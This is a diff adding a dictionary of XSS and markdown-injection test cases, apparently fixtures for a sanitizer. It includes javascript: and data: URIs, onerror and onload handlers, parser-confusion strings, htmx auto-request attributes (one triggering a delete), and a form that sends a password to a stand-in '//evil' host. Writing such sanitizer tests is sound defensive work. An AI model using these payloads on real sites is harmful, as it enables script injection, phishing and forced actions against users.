@@ -76,3 +76,29 @@ HTML = {
     "attributes on formatting": "<b/onclick=alert(1) x><i\nonclick=alert(1)>x",
     "a class of the page's": '<div class="toast modal code">x</div>',
 }
+
+# By the id that a list of cases gives them.
+CASES = {
+    "XMD-01": "[x](javascript:alert(1))",
+    "XMD-02": "[x](JaVa&#x0A;sCript&colon;alert(1))",
+    "XMD-04": "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "XMD-05": "[x](vbscript:1) [y](file:///etc/passwd)",
+    "XMD-06": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "XMD-08": '[x](http://a "\\" onclick=\\"alert(1)")',
+    "XMD-10": "<img src=x onerror=alert(1)>",
+    "XMD-11": "<svg onload=alert(1)>",
+    "XMD-13": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "XMD-15": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
+    "XMD-16": "<base href=//evil><meta http-equiv=refresh><link rel=stylesheet href=//e><style>*{}</style>",
+    "XMD-18": "<div hx-get=/x hx-trigger=load>x</div>",
+    "XMD-19": "<div hx-post=/post/1/delete hx-trigger=load>x</div>",
+    "XMD-20": "<div data-hx-get=/x data-hx-trigger=load>x</div>",
+    "XMD-22": '<div hx-get=/x hx-vals="js:{a:alert(1)}">x</div>',
+    "XMD-23": "<div id=flash hx-swap-oob=true>owned</div>",
+    "XMD-26": "<form action=//evil><input name=password></form>",
+    "XMD-27": '~~~ x"onmouseover="alert(1)\ncode\n~~~',
+    "XMD-28": '# "><img src=x onerror=alert(1)>\n\n[^"><b id=x>]\n\n[^"><b id=x>]: y',
+    "XMD-29": "```html\n<script>alert(1)</script>\n```",
+    "XMD-30": "<!-- --!><img src=x onerror=alert(1)> --><![CDATA[><script>alert(1)</script>]]><?x ><b id=x>",
+    "XMD-31": "&lt;script&gt;alert(1)&lt;/script&gt;",
+}
